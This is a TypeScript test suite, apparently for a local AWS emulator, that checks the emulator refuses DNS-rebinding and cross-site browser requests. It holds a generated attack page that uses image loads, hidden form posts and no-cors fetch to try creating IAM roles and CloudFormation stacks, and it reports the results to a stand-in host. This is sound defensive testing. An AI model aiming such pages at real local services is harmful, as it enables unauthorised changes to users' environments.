import { type ChildProcess, spawn } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CloudFormationClient, DescribeStacksCommand } from '@aws-sdk/client-cloudformation';
import { IAMClient, ListRolesCommand } from '@aws-sdk/client-iam';
import { programOf } from '../../tools/left-out';
import { needing } from '../../tools/needing';
import { chromium } from '../../tools/tools';
import { startTestSandbox, type TestSandbox } from '../with-sandbox';

let sandbox: TestSandbox;
beforeAll(async () => {
  sandbox = await startTestSandbox();
});
afterAll(() => sandbox.stop());

/** Request of a page, told apart by the names of what it would make. */
interface Attempt {
  readonly method: 'GET' | 'POST' | 'PUT' | 'DELETE' | 'PATCH';
  readonly path: string;
  readonly body?: string;
}

const signed = (service: string) => `X-Amz-Credential=111111111111/20260101/us-east-1/${service}/aws4_request`;
const trust = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' }],
});
const template = JSON.stringify({ Resources: { Queue: { Type: 'AWS::SQS::Queue' } } });

/** Attempts that need no header of their own, and so no leave of the sandbox. */
function attempts(name: string): Record<'readStacks' | 'makeRole' | 'makeStack', Attempt> {
  const role = new URLSearchParams({ Action: 'CreateRole', RoleName: name, AssumeRolePolicyDocument: trust });
  const stack = new URLSearchParams({ Action: 'CreateStack', StackName: name, TemplateBody: template });
  return {
    readStacks: { method: 'GET', path: `/?${signed('cloudformation')}&Action=DescribeStacks` },
    makeRole: { method: 'GET', path: `/?${signed('iam')}&${role}` },
    makeStack: { method: 'POST', path: `/?${signed('cloudformation')}`, body: `${stack}` },
  };
}

/** Sends a request as a program does, with the headers that are given beside those of HTTP itself. */
function send(
  { method, path, body }: Attempt,
  headers: Readonly<Record<string, string>> = {},
): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const call = request(sandbox.url, { method, path, headers }, (response) => {
      let text = '';
      response.on('data', (chunk) => (text += chunk));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, text }));
    });
    call.on('error', reject);
    call.end(body);
  });
}

const roleNames = async () =>
  (await new IAMClient(sandbox.client('111111111111')).send(new ListRolesCommand({}))).Roles?.map(
    ({ RoleName }) => RoleName,
  ) ?? [];
const stackNames = async () =>
  (await new CloudFormationClient(sandbox.client('111111111111')).send(new DescribeStacksCommand({}))).Stacks?.map(
    ({ StackName }) => StackName,
  ) ?? [];

describe('a request', () => {
  const host = () => new URL(sandbox.url).host;
  const port = () => new URL(sandbox.url).port;

  it.each([
    ['a host elsewhere, bound to this machine', () => ({ host: `rebound.example:${port()}` })],
    ['a host that begins like this machine', () => ({ host: '127.0.0.1.rebound.example' })],
    ['a host that ends like this machine', () => ({ host: `rebound.localhost:${port()}` })],
    ['a page elsewhere', () => ({ origin: 'https://page.example' })],
    ['a page without an origin', () => ({ origin: 'null' })],
    ['a page at another port of this machine', () => ({ origin: 'http://127.0.0.1:3000' })],
    ['another site', () => ({ 'sec-fetch-site': 'cross-site' })],
    ['another port of the same site', () => ({ 'sec-fetch-site': 'same-site' })],
  ])('from %s is refused, whatever it asks for', async (_from, headers) => {
    const { readStacks, makeStack } = attempts('refused');
    for (const attempt of [readStacks, makeStack, { method: 'GET' as const, path: '/_sandbox/health' }]) {
      expect(await send(attempt, headers())).toMatchObject({ status: 403 });
    }
    expect(await stackNames()).not.toContain('refused');
  });

  it.each([
    ['no header of a browser', () => ({})],
    ['the name localhost', () => ({ host: `localhost:${port()}` })],
    ['the address ::1', () => ({ host: `[::1]:${port()}` })],
    ['an address that a person typed', () => ({ 'sec-fetch-site': 'none' })],
    ["the sandbox's own origin", () => ({ origin: `http://${host()}`, 'sec-fetch-site': 'same-origin' })],
  ])('with %s is answered', async (_with, headers) => {
    expect(await send(attempts('read').readStacks, headers())).toMatchObject({ status: 200 });
  });

  it('that changes something is taken by POST only', async () => {
    const { makeRole } = attempts('by-get');
    const [, query = ''] = makeRole.path.split('?');
    expect(await send(makeRole)).toMatchObject({
      status: 405,
      text: expect.stringContaining('CreateRole is taken by POST only, got: GET.'),
    });
    for (const method of ['PUT', 'DELETE', 'PATCH'] as const) {
      const { status } = await send({ ...makeRole, method, body: query });
      expect([400, 405]).toContain(status);
    }
    expect(await roleNames()).not.toContain('by-get');
    expect(await send({ method: 'POST', path: makeRole.path, body: query })).toMatchObject({ status: 200 });
    expect(await roleNames()).toContain('by-get');
  });
});

const { describe: describeBrowser } = needing(chromium);

describeBrowser('a page in Chromium', () => {
  let page: Server;
  let pagePort: number;
  let browser: ChildProcess | undefined;
  let folder: string;
  let told: (text: string) => void;
  let report: Promise<string>;
  let html = '';
  beforeEach(async () => {
    report = new Promise((resolve) => {
      told = resolve;
    });
    folder = mkdtempSync(join(tmpdir(), 'chromium-'));
    page = createServer((asked, answer) => {
      let text = '';
      asked.on('data', (chunk) => (text += chunk));
      asked.on('end', () => {
        if (asked.method === 'POST') told(text);
        answer.setHeader('content-type', 'text/html').end(asked.method === 'POST' ? '' : html);
      });
    }).listen(0, '127.0.0.1');
    await new Promise((listening) => page.once('listening', listening));
    pagePort = (page.address() as AddressInfo).port;
  });
  afterEach(async () => {
    const ended = browser && new Promise((exit) => browser?.once('exit', exit));
    // Its processes are a group: one that lives on would write into the folder while it is removed.
    if (browser?.pid) process.kill(-browser.pid, 'SIGKILL');
    await ended;
    page.closeAllConnections();
    await new Promise((closed) => page.close(closed));
    rmSync(folder, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  });

  /** Opens an address in a browser to which every name under `.example` is this machine. */
  function open(url: string): void {
    const flags = ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-dev-shm-usage'];
    const names = '--host-resolver-rules=MAP *.example 127.0.0.1';
    browser = spawn(programOf(chromium), [...flags, names, `--user-data-dir=${folder}`, url], {
      ...{ stdio: 'ignore', detached: true },
    });
  }

  /** Page that has the browser do all attempts, each in the ways that a page has, and tells what it could read. */
  function attack(base: string, name: string): string {
    const { readStacks, makeRole, makeStack } = attempts(name);
    const told = JSON.stringify({ base, readStacks, makeRole, makeStack });
    return `<!doctype html><iframe name="sink"></iframe><script>
      const { base, readStacks, makeRole, makeStack } = ${told.replace(/</g, '\\u003c')};
      const read = async (path, options) => {
        try { const answer = await fetch(base + path, options); return answer.type + ' ' + answer.status; }
        catch (error) { return 'failed'; }
      };
      const image = (path) => new Promise((done) => {
        const shown = new Image(); shown.onload = shown.onerror = done; shown.src = base + path;
      });
      const form = (path, body) => new Promise((done) => {
        const made = document.createElement('form');
        Object.assign(made, { method: 'POST', action: base + path, target: 'sink', enctype: 'application/x-www-form-urlencoded' });
        for (const [name, value] of new URLSearchParams(body)) {
          const field = document.createElement('input'); field.name = name; field.value = value; made.append(field);
        }
        document.body.append(made);
        document.querySelector('iframe').onload = done;
        made.submit();
        setTimeout(done, 3000);
      });
      (async () => {
        await image(makeRole.path);
        await form(makeStack.path, makeStack.body);
        const post = await read(makeStack.path, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: makeStack.body });
        const faults = await read('/_sandbox/faults', { method: 'PUT', body: '{"throttle":1}' });
        const seen = await read(readStacks.path, {});
        await fetch('http://tell.example:${'${port}'}/', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ post, faults, seen }) });
      })();
    </script>`.replace('${port}', String(pagePort));
  }

  it('elsewhere changes nothing and reads nothing', async () => {
    html = attack(sandbox.url, 'of-a-page');
    open(`http://page.example:${pagePort}/`);
    // An opaque answer is one that the page can't read.
    expect(JSON.parse(await report)).toEqual({ post: 'opaque 0', faults: 'failed', seen: 'failed' });
    expect(await roleNames()).not.toContain('of-a-page');
    expect(await stackNames()).not.toContain('of-a-page');
    expect(await (await fetch(`${sandbox.url}/_sandbox/faults`)).json()).toEqual({});
  }, 60_000);

  it('whose name is bound to the sandbox for a moment changes nothing and reads nothing', async () => {
    const { port } = new URL(sandbox.url);
    html = attack(`http://rebound.example:${port}`, 'rebound');
    open(`http://page.example:${pagePort}/`);
    expect(JSON.parse(await report)).toMatchObject({ faults: 'failed', seen: 'failed' });
    expect(await roleNames()).not.toContain('rebound');
    expect(await stackNames()).not.toContain('rebound');
  }, 60_000);
});

it('the same attempts succeed for a program of this machine', async () => {
  const { readStacks, makeStack } = attempts('of-a-program');
  expect(await send(makeStack)).toMatchObject({ status: 200 });
  expect(await send(readStacks)).toMatchObject({ status: 200, text: expect.stringContaining('of-a-program') });
});
